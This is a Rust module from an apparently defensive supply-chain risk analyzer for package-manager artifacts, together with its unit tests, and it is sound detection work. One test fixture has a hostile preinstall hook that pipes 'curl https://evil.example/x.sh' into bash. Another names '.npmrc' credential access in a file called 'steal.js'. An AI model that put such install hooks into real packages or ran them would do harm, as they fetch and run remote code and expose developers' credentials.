//! Supply-chain analysis for package-manager artifacts
//!
//! Four sub-analyses aggregated into one risk assessment:
//! - lifecycle-script inspection of the package manifest
//! - published-tarball analysis against the repository tree
//! - version diff against the previously published version
//! - publisher/maintainer provenance
//!
//! The overall score is the maximum of the component scores, with a
//! compounding bonus when several components are independently risky.

pub mod lifecycle;
pub mod patterns;
pub mod publishing;
pub mod tarball;
pub mod version_diff;

pub use lifecycle::{analyze_lifecycle_scripts, DANGEROUS_HOOKS, LIFECYCLE_HOOKS};
pub use publishing::analyze_publishing;
pub use tarball::{analyze_tarball_bytes, is_minified};
pub use version_diff::analyze_version_diff;

use pkgpulse_core::{PatternSeverity, RiskLevel, SupplyChainData};
use std::collections::{BTreeMap, HashSet};
use std::time::Duration;
use tracing::debug;

/// One published manifest as the analyzer consumes it.
#[derive(Debug, Clone, Default)]
pub struct ManifestInfo {
    pub version: String,
    pub scripts: BTreeMap<String, String>,
    pub dependencies: Vec<String>,
}

/// Everything the analyzer needs for one package.
#[derive(Debug, Clone, Default)]
pub struct SupplyChainInputs {
    pub current: ManifestInfo,
    pub previous: Option<ManifestInfo>,
    pub tarball_url: Option<String>,
    pub maintainers: Vec<String>,
    pub publisher: Option<String>,
    pub has_provenance: bool,
    pub provenance_verified: bool,
    /// Repository tree paths, when the repo fetcher produced them.
    pub repo_paths: Option<HashSet<String>>,
}

pub struct SupplyChainAnalyzer {
    client: reqwest::Client,
}

impl SupplyChainAnalyzer {
    pub fn new() -> Self {
        let client = reqwest::Client::builder()
            .timeout(Duration::from_secs(60))
            .user_agent("pkgpulse/0.4")
            .build()
            .unwrap_or_default();
        Self { client }
    }

    /// Run all sub-analyses. The tarball download is failure-isolated; an
    /// unreachable archive leaves that slot absent.
    pub async fn analyze(&self, inputs: &SupplyChainInputs) -> SupplyChainData {
        let lifecycle_scripts = analyze_lifecycle_scripts(&inputs.current.scripts);

        let tarball = match inputs.tarball_url.as_deref() {
            Some(url) => {
                tarball::download_and_analyze(&self.client, url, inputs.repo_paths.as_ref()).await
            }
            None => None,
        };
        if tarball.is_none() && inputs.tarball_url.is_some() {
            debug!("tarball analysis unavailable");
        }

        let version_diff = inputs
            .previous
            .as_ref()
            .map(|prev| analyze_version_diff(&inputs.current, Some(prev)));

        let publishing = analyze_publishing(
            &inputs.maintainers,
            inputs.publisher.as_deref(),
            inputs.has_provenance,
            inputs.provenance_verified,
        );

        aggregate(lifecycle_scripts, tarball, version_diff, publishing)
    }
}

impl Default for SupplyChainAnalyzer {
    fn default() -> Self {
        Self::new()
    }
}

/// Combine the component analyses into the final assessment.
pub fn aggregate(
    lifecycle_scripts: pkgpulse_core::LifecycleScriptRisk,
    tarball: Option<pkgpulse_core::TarballAnalysis>,
    version_diff: Option<pkgpulse_core::VersionDiff>,
    publishing: pkgpulse_core::PublishingInfo,
) -> SupplyChainData {
    let component_scores = [
        lifecycle_scripts.risk_score,
        tarball.as_ref().map(|t| t.risk_score).unwrap_or(0),
        version_diff.as_ref().map(|v| v.risk_score).unwrap_or(0),
        publishing.risk_score,
    ];

    let mut overall = component_scores.iter().copied().max().unwrap_or(0);
    // Independently risky components compound.
    if component_scores.iter().filter(|&&s| s >= 50).count() >= 2 {
        overall = (overall + 20).min(100);
    }

    let mut all_patterns = lifecycle_scripts.suspicious_patterns.clone();
    if let Some(ref tarball) = tarball {
        all_patterns.extend(tarball.suspicious_patterns.clone());
    }

    let critical_findings: Vec<String> = all_patterns
        .iter()
        .filter(|p| p.severity == PatternSeverity::Critical)
        .map(|p| format!("{} ({})", p.description, p.location))
        .collect();

    let mut behavioral_flags = Vec::new();
    let tarball_has = |t: &str| {
        tarball
            .as_ref()
            .map(|tb| tb.suspicious_patterns.iter().any(|p| p.pattern_type == t))
            .unwrap_or(false)
    };
    if lifecycle_scripts.installs_runtime || tarball_has("runtime_install") {
        behavioral_flags.push("installs_alternative_runtime".to_string());
    }
    if lifecycle_scripts.has_credential_access || tarball_has("credential_access") {
        behavioral_flags.push("accesses_credentials".to_string());
    }
    if lifecycle_scripts.has_network_calls || tarball_has("network_call") {
        behavioral_flags.push("makes_network_calls".to_string());
    }
    if lifecycle_scripts.has_obfuscation || tarball_has("obfuscation") {
        behavioral_flags.push("contains_obfuscation".to_string());
    }

    SupplyChainData {
        lifecycle_scripts,
        tarball,
        version_diff,
        publishing,
        overall_risk_score: overall,
        risk_level: RiskLevel::from_score(overall),
        all_suspicious_patterns: all_patterns,
        critical_findings,
        behavioral_flags,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pkgpulse_core::{LifecycleScriptRisk, PublishingInfo, TarballAnalysis};

    fn scripts(entries: &[(&str, &str)]) -> BTreeMap<String, String> {
        entries
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn clean_package_aggregates_to_low() {
        let data = aggregate(
            LifecycleScriptRisk::default(),
            None,
            None,
            PublishingInfo::default(),
        );
        assert_eq!(data.overall_risk_score, 0);
        assert_eq!(data.risk_level, RiskLevel::Low);
        assert!(data.critical_findings.is_empty());
        assert!(data.behavioral_flags.is_empty());
    }

    #[test]
    fn overall_is_max_of_components() {
        let mut publishing = PublishingInfo::default();
        publishing.risk_score = 40;
        let tarball = TarballAnalysis {
            risk_score: 30,
            ..Default::default()
        };
        let data = aggregate(
            LifecycleScriptRisk::default(),
            Some(tarball),
            None,
            publishing,
        );
        assert_eq!(data.overall_risk_score, 40);
        assert_eq!(data.risk_level, RiskLevel::Medium);
    }

    #[test]
    fn two_hot_components_compound() {
        let lifecycle = LifecycleScriptRisk {
            risk_score: 60,
            ..Default::default()
        };
        let tarball = TarballAnalysis {
            risk_score: 55,
            ..Default::default()
        };
        let data = aggregate(lifecycle, Some(tarball), None, PublishingInfo::default());
        assert_eq!(data.overall_risk_score, 80);
        assert_eq!(data.risk_level, RiskLevel::Critical);
    }

    #[tokio::test]
    async fn shai_hulud_shape_is_critical() {
        // preinstall shell fetch + runtime install + unlisted publisher:
        // the signature install-time attack shape.
        let analyzer = SupplyChainAnalyzer::new();
        let inputs = SupplyChainInputs {
            current: ManifestInfo {
                version: "1.0.1".into(),
                scripts: scripts(&[("preinstall", "curl https://evil.example/x.sh | bash")]),
                dependencies: vec![],
            },
            previous: None,
            tarball_url: None,
            maintainers: vec!["alice".into()],
            publisher: Some("mallory".into()),
            has_provenance: false,
            provenance_verified: false,
            repo_paths: None,
        };
        let data = analyzer.analyze(&inputs).await;
        assert_eq!(data.risk_level, RiskLevel::Critical);
        assert!(!data.critical_findings.is_empty());
        assert!(data.has_flag("makes_network_calls"));
        assert!(!data.publishing.publisher_is_listed_maintainer);
    }

    #[test]
    fn behavioral_flags_cover_tarball_findings() {
        let tarball = TarballAnalysis {
            suspicious_patterns: vec![pkgpulse_core::SuspiciousPattern {
                pattern_type: "credential_access".into(),
                severity: PatternSeverity::Critical,
                location: "steal.js".into(),
                matched_content: ".npmrc".into(),
                description: "References credential or key material".into(),
            }],
            risk_score: 25,
            ..Default::default()
        };
        let data = aggregate(
            LifecycleScriptRisk::default(),
            Some(tarball),
            None,
            PublishingInfo::default(),
        );
        assert!(data.has_flag("accesses_credentials"));
        assert_eq!(data.critical_findings.len(), 1);
    }
}
